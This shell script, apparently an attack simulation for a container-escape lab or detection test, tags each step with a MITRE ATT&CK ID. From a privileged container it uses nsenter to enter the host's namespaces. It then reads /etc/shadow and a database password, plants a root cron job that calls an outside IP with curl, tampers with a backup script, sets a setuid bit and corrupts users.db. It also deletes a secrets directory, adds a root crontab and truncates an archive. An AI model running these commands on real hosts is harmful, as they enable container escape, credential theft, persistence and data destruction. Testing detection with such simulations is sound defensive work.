#!/bin/sh
# Runs in a privileged container that shares the host's pid namespace. $PID is a process
# of the host; from its namespaces on, every command is the host's own.
echo "@T1611 enters the namespaces of host process $PID"
ps > /tmp/ps.txt
sleep 0.2
nsenter -t "$PID" -m -u -i -n /bin/sh -c '
  H=/srv/host
  cd $H
  echo "@T1552.001 credentials read"
  cat $H/etc/shadow $H/srv/data/secrets/db-password > /dev/null
  sleep 0.3
  echo "@T1053.003 cron job written"
  printf "%s\n" "*/5 * * * * root curl -s http://203.0.113.66/x" > etc/cron.d/sysstat
  sed -i s/02/03/ usr/local/bin/backup-www
  echo "touch /tmp/ran" >> usr/local/bin/backup-www
  sleep 0.3
  echo "@T1548.001 setuid bit set"
  chmod 4755 srv/data/tool.bin
  chown 1001:1001 srv/data/history.log.gz
  sleep 0.2
  echo "@T1565.001 stored data changed"
  cd srv/data
  echo "listen = 9090" > app.conf
  echo "// extra" >> current/app.js
  mv releases/1/app.js releases/1/app.old.js
  perl -e "open F, q(+<), q(users.db); seek F, 5000, 0; print F q(XXXXXXXX); close F" 2> /dev/null || printf XXXXXXXX | dd of=users.db bs=1 seek=5000 conv=notrunc 2> /dev/null
  echo "name, not theirs" >> "$H/home/mori/見積.csv"
  echo "Welcome, and goodbye" > $H/usr/share/motd-lab/banner.txt
  setfattr -n user.origin -v changed $H/srv/www/keep.txt
  sleep 0.3
  echo "@T1485 data removed"
  rm $H/srv/www/robots.txt
  rm -r $H/srv/data/secrets
  mkdir $H/var/spool/cron/crontabs
  echo "* * * * * /srv/data/tool.bin" > $H/var/spool/cron/crontabs/root
  truncate -s 100 archive.zip
'
sleep 0.2
echo "@end"
